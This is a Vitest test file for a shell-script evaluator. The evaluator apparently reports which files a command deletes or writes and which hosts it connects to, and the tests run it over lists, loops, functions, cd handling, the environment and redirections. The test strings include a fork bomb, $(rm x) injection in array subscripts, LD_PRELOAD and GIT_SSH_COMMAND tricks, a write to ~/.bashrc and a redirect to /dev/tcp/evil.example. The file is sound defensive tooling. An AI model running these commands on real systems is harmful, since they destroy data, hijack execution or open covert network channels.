// Lists, loops, functions, directories: every way through a script is judged, and what differs between ways is unknown.

import { describe, expect, test } from "vitest";
import { evaluateShell } from "../../../src/core/shell/index.js";
import { aContext, starts, touches } from "./support.js";

const directories = { exists: () => "directory" } as const;

describe("all commands of a text are judged", () => {
  test.each(["ls; rm x", "ls && rm x", "ls || rm x", "ls | rm x", "ls & rm x", "ls\nrm x", "(rm x)", "{ rm x; }", "if rm x; then ls; fi", "if ls; then :; elif rm x; then :; fi", "if ls; then :; else rm x; fi", "while rm x; do :; done", "until ls; do rm x; done", "for i in 1; do rm x; done", "for ((;;)); do rm x; done", "case a in a) rm x;; esac", "case $Q in a) ls;; *) rm x;; esac", "! rm x", "time -p rm x", "coproc rm x", "f() { rm x; }; f", "function f { rm x; }; f", "trap 'rm x' EXIT", "eval 'rm' x", "select a in b; do rm x; done", "exec rm x", "command rm x", "builtin eval rm x", "shopt -s expand_aliases; alias q='rm x'; q", "[[ a ]] && rm x", "ls |& rm x", "ls;rm x # y"])("%s", (text) => {
    expect(touches(text)).toContain("delete /w/x");
  });

  test("a comment and a quoted text are not commands", () => {
    expect(starts("ls # ; rm x")).toEqual(["ls"]);
    expect(starts("echo 'rm x; rm y'")).toEqual(["echo"]);
  });

  test("a function's body counts when it is called, with its arguments", () => {
    expect(touches("f() { rm \"$1\"; }")).toEqual([]);
    expect(touches("f() { rm \"$1\"; }; f a; f b")).toEqual(["delete /w/a", "delete /w/b"]);
  });

  test("`local` hides the outer variable only inside the function", () => {
    expect(touches("a=rm; f() { local a=ls; }; f; $a x")).toEqual(["delete /w/x"]);
  });

  test("a subshell's variables do not come out", () => {
    expect(touches("a=rm; (a=ls); $a x")).toEqual(["delete /w/x"]);
  });

  test("each value of a loop is tried", () => {
    expect(touches("for f in a b; do rm $f; done")).toEqual(["delete /w/a", "delete /w/b"]);
  });

  test("a loop over a glob gives a pattern", () => {
    expect(touches("for f in *.py; do rm \"$f\" ${f%.py}.c; done")).toEqual(["delete /w/*.py ~", "delete /w/*.c ~"]);
  });

  test("a fork bomb and endless recursion come to an end", () => {
    expect(touches(":(){ :|:& };:")).toContain("opaque");
    expect(touches("f() { f a; }; f")).toContain("opaque");
  });
});

describe("the working directory", () => {
  test("after `cd d &&` it is d", () => {
    expect(touches("cd d && rm x")).toEqual(["delete /w/d/x"]);
  });

  test("after `cd d;` it may still be the old one", () => {
    expect(touches("cd d; rm x")).toEqual(["delete /w/d/x", "delete /w/x"]);
  });

  test("after `cd d;` into a folder that exists it is that folder", () => {
    expect(touches("cd d; rm x", directories)).toEqual(["delete /w/d/x"]);
  });

  test("a folder made or removed by the same text is not trusted to exist", () => {
    expect(touches("rmdir d; cd d; rm x", directories)).toContain("delete /w/x");
  });

  test("`cd d || exit` leaves no doubt", () => {
    expect(touches("cd d || exit 1; rm x")).toEqual(["delete /w/d/x"]);
    expect(touches("set -e; cd d; rm x")).toEqual(["delete /w/d/x"]);
  });

  test("in a subshell it does not last", () => {
    expect(touches("(cd d && rm a); rm b")).toEqual(["delete /w/d/a", "delete /w/b"]);
  });

  test("an unknown one makes relative writes opaque and leaves absolute ones", () => {
    expect(touches("cd $D && rm /tmp/x")).toEqual(["delete /tmp/x"]);
    expect(touches("cd $D && rm x")).toEqual(["opaque"]);
  });

  test("a loop that goes up makes it unknown", () => {
    expect(touches("while test -f q; do cd ..; done; rm x")).toContain("opaque");
  });

  test("what holds afterwards is reported", () => {
    expect(evaluateShell("cd d", aContext(directories)).cwdAfter).toBe("/w/d");
    expect(evaluateShell("cd d", aContext()).cwdAfter).toBeNull();
    expect(evaluateShell("cd $D", aContext(directories)).cwdAfter).toBeNull();
    expect(evaluateShell("(cd d)", aContext(directories)).cwdAfter).toBe("/w");
  });
});

describe("the environment", () => {
  test("exports are reported with their values", () => {
    expect(evaluateShell("export A=1 B=$X; C=2; unset HOME; PATH=/x:$PATH", aContext()).environmentAfter).toEqual(new Map([["A", "1"], ["B", null], ["HOME", null], ["PATH", "/x:/usr/bin:/bin"]]));
  });

  test("surroundings of one command are effects, plain shell variables are not", () => {
    expect(touches("LD_PRELOAD=./x.so date")).toEqual(["env LD_PRELOAD=./x.so"]);
    expect(touches("GIT_SSH_COMMAND='rm x' date")).toEqual(["env GIT_SSH_COMMAND=rm x", "delete /w/x"]);
    expect(touches("i=1; date")).toEqual([]);
    expect(touches("export BASH_ENV=$X")).toEqual(["env BASH_ENV=?"]);
  });

  test("a program shadowed by `hash -p` or an alias is seen through", () => {
    expect(touches("hash -p /bin/rm ls; ls x")).toContain("delete /w/x");
  });

  test("text in a subscript that bash would run is opaque", () => {
    for (const text of ["test -v 'a[$(rm x)]'", "printf -v 'a[$(rm x)]' 1", "unset 'a[$(rm x)]'", "a='b[$(rm x)]'; (( a ))", "declare -i n; n='b[$(rm x)]'", "read 'a[$(rm x)]'"]) {
      expect(touches(text), text).toContain("opaque");
    }
  });
});

describe("redirections", () => {
  test.each<[string, string[]]>([
    ["echo > a", ["write /w/a"]],
    ["echo >> a", ["write /w/a"]],
    ["echo >| a", ["write /w/a"]],
    ["date &> a", ["write /w/a"]],
    ["date &>> a", ["write /w/a"]],
    ["date >& a", ["write /w/a"]],
    ["date 2> a", ["write /w/a"]],
    ["{fd}> a date", ["write /w/a"]],
    ["> a", ["write /w/a"]],
    ["cat < a", ["read /w/a"]],
    ["cat <> a", ["read /w/a", "write /w/a"]],
    ["{ date; } > a", ["write /w/a"]],
    ["date 2>&1 >/dev/null 2>/dev/stderr >&2 2>&-", []],
    ["echo > /dev/tcp/evil.example/80", ["connect evil.example"]],
    ["exec 3<>/dev/udp/$H/53", ["connect ?"]],
    ["f() { date; } > a; f", ["write /w/a"]],
    ["echo > ~/.bashrc", ["write /h/.bashrc"]],
  ])("%s", (text, expected) => {
    expect(touches(text)).toEqual(expected);
  });

  test("output sent elsewhere is no value", () => {
    expect(touches("$(echo rm >f) x")).toContain("opaque");
  });
});
